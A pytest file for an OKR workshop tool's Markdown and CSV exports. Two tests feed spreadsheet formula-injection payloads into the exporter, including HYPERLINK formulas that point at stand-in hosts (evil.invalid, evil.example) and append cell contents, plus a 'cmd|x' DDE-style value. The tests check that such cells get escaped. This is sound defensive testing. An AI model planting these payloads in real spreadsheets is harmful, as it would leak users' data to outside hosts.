"""The follow-up e-mail (Markdown) and the key results sheet (CSV), both written from the export document."""

from __future__ import annotations

import copy
import csv
import io

import pytest

from facilitator.core import catalog
from facilitator.core.export import export_document
from facilitator.core.export_csv import COLUMNS, to_csv
from facilitator.core.export_markdown import to_markdown
from facilitator.core.okr import KeyResult, Objective
from facilitator.core.session import Session
from tests.conftest import MemoryStore
from tests.core.test_import import build_full_session


@pytest.fixture
def document(deployment, clock, wall) -> dict:
    return export_document(build_full_session(deployment, clock, wall))


@pytest.fixture
def empty(deployment, clock, wall) -> dict:
    return export_document(Session.start(deployment, MemoryStore(), workshop_ref="deployment-parameters",
                                         clock=clock, wall_clock=wall))


def _section(markdown: str, title: str) -> str:
    """The text of one `## title` section, up to the next one."""
    start = markdown.index(f"## {title}\n")
    end = markdown.find("\n## ", start + 1)
    return markdown[start:end if end != -1 else len(markdown)]


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


# -- Markdown -----------------------------------------------------------------------------------------------
def test_the_title_names_workshop_organization_team_and_date(document):
    first = to_markdown(document).splitlines()[0]
    assert first == "# OKR deployment parameters — Acme, Inc. / Équipe 目標 — 26 November 2026"


def test_decisions_come_with_their_rationale_and_owner(document):
    decisions = _section(to_markdown(document), "Decisions")
    assert ("- **Level of OKRs:** Company plus two or three pilot teams. Why: Learn with teams that want it, "
            "before rolling out. Owner: Kim.") in decisions
    # a rationale typed over two lines stays in its list item
    assert "Why: Budget talks \"drive\" it, not the calendar. Owner: Kim." in decisions
    assert "**Documentation and tracking:** One shared spreadsheet or document. Why: Everyone has it, nobody " \
           "needs training. No owner yet." in decisions
    parked = decisions.split("Parked, to settle later:", 1)[1]
    assert "- **Difference from KPIs:** Ana settles it by **no date yet**." in parked
    assert "**Difference from KPIs:**" not in decisions.split("Parked, to settle later:")[0], \
        "a parked parameter is no decision"


def test_okr_drafts_show_key_results_with_from_to_owner_confidence_and_stretch(document):
    drafts = _section(to_markdown(document), "OKR drafts")
    assert "### Delight first-time customers" in drafts
    assert "- Raise 30-day retention. 40 → 60 %. Owner: Bo. Confidence 0.6." in drafts
    assert "- Cut first reply time. 9.5 → 2.25 hours. Owner: Cleo. Confidence 0.3. *Aspirational.*" in drafts
    assert "Team objective (Support); contributes to “Delight first-time customers”; aspirational." in drafts
    assert "findings" not in drafts.lower(), "the coach's findings stay with the coach"


def test_the_coach_section_lists_the_findings_only_in_a_private_export(document, deployment, clock, wall):
    private = to_markdown(export_document(build_full_session(deployment, clock, wall), include_private=True))
    coach = _section(private, "For the coach only (do not forward)")
    assert "Open findings on the drafts (" in coach
    assert "describes work to do" not in coach, "a dismissed finding is not an open note"
    summary = coach.split("Open findings on the drafts (", 1)[1].split(")", 1)[0]
    assert sum(int(part.split()[0]) for part in summary.split(", ")) == len(document["okrs"]["findings"])
    assert private.index("Session record:") < private.index("## For the coach only"), \
        "the part to forward ends before the coach's part"
    assert "For the coach only" not in to_markdown(document)


def test_the_follow_up_names_every_severity_of_the_checks_in_their_order(document):
    from facilitator.core.export_markdown import SEVERITY_WORDS, _findings
    from facilitator.core.okr_checks import SEVERITIES

    assert tuple(SEVERITY_WORDS) == SEVERITIES, "a new severity in okr_checks needs its words in the follow-up"
    objectives = document["okrs"]["objectives"]
    target = objectives[0]["id"]
    findings = [{"check": c, "severity": s, "target": target, "message": f"{s} found"}
                for c, s in (("a", "warning"), ("b", "info"), ("c", "problem"), ("d", "warning"))]
    lines = _findings(findings, objectives)
    assert lines[0] == "Open findings on the drafts (1 problem, 2 warnings, 1 hint):"
    listed = [line.rsplit(": ", 1)[1] for line in lines if line.endswith(" found.")]
    assert listed == ["problem found.", "warning found.", "warning found."], "worst first, hints only counted"


def test_the_action_plan_is_a_table_sorted_by_due_date_with_undated_last(document):
    plan = _section(to_markdown(document), "Action plan")
    rows = [line for line in plan.splitlines() if line.startswith("| ") and "---" not in line]
    assert rows == [
        "| What | Owner | Due |",
        "| Send the decisions to the whole company | Kim | 2026-11-30 |",
        "| Who pays for the OKR tool? | Kim | 2026-12-01 |",
        "| Set up the shared OKR sheet | Bo | 2026-12-15 |",
        "| Book the drafting workshop, 2 hours | **nobody yet** | **no date yet** |",
    ]


def test_open_questions_list_parked_and_undecided_parameters_and_open_parking_items(document):
    document = copy.deepcopy(document)
    document["parameters"]["alignment"].update(status="open", choice=None, decision="", decided_at=None)
    questions = _section(to_markdown(document), "Open questions")
    assert "**Difference from KPIs** (parked): When does a KPI become a key result?" in questions
    assert "Why parked" not in questions, "the decisions list says who settles it, by when and why"
    assert "**Alignment** (not decided yet)" in questions
    assert "- Rename the 'pilot' teams, maybe (raised during “" in questions
    assert "Who pays for the OKR tool?" not in questions, "turned into an action, no longer open"
    assert "Do interns write OKRs?" not in questions, "resolved in the room"


def test_next_session_carries_parked_points_and_the_first_actions_due(document):
    upcoming = _section(to_markdown(document), "Next session")
    assert "- Align the cycle with the budget calendar, | pipes | and \"quotes\" — First item next time" in upcoming
    assert upcoming.index("2026-11-30: Send the decisions") < upcoming.index("2026-12-01: Who pays")
    assert "Book the drafting workshop" not in upcoming, "an undated action is not due soonest"


def test_a_fresh_session_reads_well_with_empty_sections(empty):
    markdown = to_markdown(empty)
    assert "## Decisions\n\n**0 of 10 parameters decided, 10 still open.**\n\nNo decisions yet." in markdown
    assert "## Action plan\n\nNo actions were agreed." in markdown
    assert "## OKR drafts" not in markdown and "## Next session" not in markdown
    assert "None" not in _section(markdown, "Open questions"), "the whole agenda is still open"
    assert "\n\n\n" not in markdown and markdown.endswith(f"Session record: `{empty['session']['id']}`\n")


def test_a_drafting_session_has_no_decisions_section(clock, wall):
    drafting, _ = catalog.resolve("okr-drafting")
    session = Session.start(drafting, MemoryStore(), workshop_ref="okr-drafting", clock=clock, wall_clock=wall)
    markdown = to_markdown(export_document(session))
    assert "## Decisions" not in markdown
    assert "## Open questions\n\nNone." in markdown


def test_text_from_the_room_cannot_break_the_markdown(empty):
    document = copy.deepcopy(empty)
    document["actions"] = [{"id": "a1", "text": "- 5 teams | pick\ntwo", "owner": "1. Ana", "due": None,
                            "step": "wrap-up", "created_at": "2026-11-26T09:00:00Z"}]
    plan = _section(to_markdown(document), "Action plan")
    assert "| \\- 5 teams \\| pick two | 1\\. Ana | **no date yet** |" in plan


# -- CSV ----------------------------------------------------------------------------------------------------
def test_csv_has_a_header_and_a_row_for_every_key_result(document):
    rows = _rows(to_csv(document))
    assert tuple(rows[0]) == COLUMNS
    assert COLUMNS[-2:] == ("objective_id", "key_result_id")
    krs = [(o["id"], kr["id"]) for o in document["okrs"]["objectives"] for kr in o["key_results"]]
    assert [(r[-2], r[-1]) for r in rows[1:]] == krs
    assert all(len(r) == len(COLUMNS) for r in rows)


def test_csv_values_follow_the_drafts(document):
    rows = [dict(zip(COLUMNS, r, strict=True)) for r in _rows(to_csv(document))[1:]]
    retention, reply_time = rows[1], rows[2]
    assert retention == {"objective": "Delight first-time customers", "key_result": "Raise 30-day retention",
                         "type": "metric", "from": "40", "to": "60", "unit": "%", "direction": "increase", "due": "",
                         "owner": "Bo", "confidence": "0.6", "team": "", "aligned_to": "", "level": "company",
                         "committed": "true", "aspirational": "false", "why_now": "Churn doubled, 2025 → 2026",
                         "contributes_to": "", "session_id": document["session"]["id"], "objective_id": "o1",
                         "key_result_id": "kr2"}
    assert reply_time["from"] == "9.5" and reply_time["to"] == "2.25" and reply_time["type"] == "baseline"
    assert reply_time["team"] == "Support" and reply_time["aligned_to"] == "Delight first-time customers"
    assert rows[3]["owner"] == "Dan, Eve" and rows[3]["from"] == rows[3]["confidence"] == ""
    assert rows[3]["type"] == "milestone" and rows[3]["due"] == "2027-01-31", "a milestone keeps its date"
    assert reply_time["direction"] == "decrease"
    assert (reply_time["committed"], reply_time["aspirational"], reply_time["contributes_to"]) == \
           ("false", "true", "o1")


def test_decisions_and_actions_sheets_have_a_row_each_with_session_and_ids(document):
    from facilitator.core.export_csv import ACTION_COLUMNS, DECISION_COLUMNS, actions_csv, decisions_csv

    decisions = [dict(zip(DECISION_COLUMNS, r, strict=True)) for r in _rows(decisions_csv(document))[1:]]
    assert [d["parameter_id"] for d in decisions] == list(document["parameters"])
    level = decisions[0]
    assert level["parameter"] == "Level of OKRs" and level["status"] == "decided" and level["agreed"] == "true"
    assert level["choice"] == "company-and-pilots" and level["owner"] == "Kim"
    assert level["session_id"] == document["session"]["id"] and level["decided_at"].endswith("Z")
    assert next(d for d in decisions if d["parameter_id"] == "kpis")["status"] == "parked"
    actions = [dict(zip(ACTION_COLUMNS, r, strict=True)) for r in _rows(actions_csv(document))[1:]]
    assert [a["action_id"] for a in actions] == [a["id"] for a in document["actions"]]
    assert actions[0]["action"] == "Set up the shared OKR sheet" and actions[0]["due"] == "2026-12-15"


def test_a_deployment_session_without_drafts_still_has_its_decisions_sheet(empty):
    from facilitator.core.export_csv import decisions_csv

    assert len(_rows(decisions_csv(empty))) == 11, "the header and the ten parameters the workshop decides"


def test_text_that_a_spreadsheet_would_run_is_shown_instead(document):
    from facilitator.core.export_csv import actions_csv

    hostile = copy.deepcopy(document)
    hostile["actions"][0]["text"] = '=HYPERLINK("http://evil.invalid","x")'
    hostile["actions"][0]["owner"] = "@SUM(A1)"
    row = _rows(actions_csv(hostile))[1]
    assert row[0] == "'=HYPERLINK(\"http://evil.invalid\",\"x\")" and row[1] == "'@SUM(A1)"


def test_csv_of_a_session_without_drafts_is_just_the_header(empty):
    assert to_csv(empty) == ",".join(COLUMNS) + "\r\n"


def test_csv_quotes_commas_quotes_newlines_and_keeps_unicode(clock, wall, deployment):
    session = Session.start(deployment, MemoryStore(), workshop_ref="deployment-parameters", team="Équipe 目標",
                            clock=clock, wall_clock=wall)
    tricky = 'Grow, "really" grow\nacross two lines — 目標 ✓'
    session.board.save_objective(Objective("o1", tricky, level="team"))
    session.board.save_key_result("o1", KeyResult("kr1", "Say \"hi\", twice", start=0.1, target=1_000_000,
                                                  unit="€", owner="Zoë"))
    text = to_csv(export_document(session))
    assert '"Grow, ""really"" grow\nacross two lines — 目標 ✓"' in text
    assert '"Say ""hi"", twice"' in text
    row = _rows(text)[1]
    assert row[:11] == [tricky, 'Say "hi", twice', "metric", "0.1", "1000000", "€", "", "", "Zoë", "",
                        "Équipe 目標"]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_start_with_a_quote(clock, wall, deployment, start):
    session = Session.start(deployment, MemoryStore(), workshop_ref="deployment-parameters",
                            team=f"{start}Ops", clock=clock, wall_clock=wall)
    formula = f'{start}HYPERLINK("http://evil.example/?"&A2,"click")'
    session.board.save_objective(Objective("o1", formula, level="team"))
    session.board.save_key_result("o1", KeyResult("kr1", f"{start}2+3", start=-5, target=-1, unit=f"{start}cmd|x",
                                                  owner=f"{start}SUM(A1)"))
    row = _rows(to_csv(export_document(session)))[1]
    text_cells = [row[COLUMNS.index(c)] for c in ("objective", "key_result", "unit", "owner")]
    assert text_cells == ["'" + formula, f"'{start}2+3", f"'{start}cmd|x", f"'{start}SUM(A1)"]
    assert not row[COLUMNS.index("team")].startswith(("=", "+", "-", "@", "\t", "\r"))
    assert (row[COLUMNS.index("from")], row[COLUMNS.index("to")]) == ("-5", "-1"), "numbers stay numbers"


def test_a_decision_the_consensus_check_did_not_agree_says_so(document):
    disputed = copy.deepcopy(document)
    disputed["parameters"]["level"]["consensus"]["agreed"] = False
    decisions = _section(to_markdown(disputed), "Decisions")
    level = next(line for line in decisions.splitlines() if line.startswith("- **Level of OKRs:**"))
    assert level.endswith("**Not agreed yet:** the consensus check left objections open or a tie; settle it first.")
    scoring = next(line for line in decisions.splitlines() if line.startswith("- **Scoring and updating:**"))
    assert "Not agreed" not in scoring
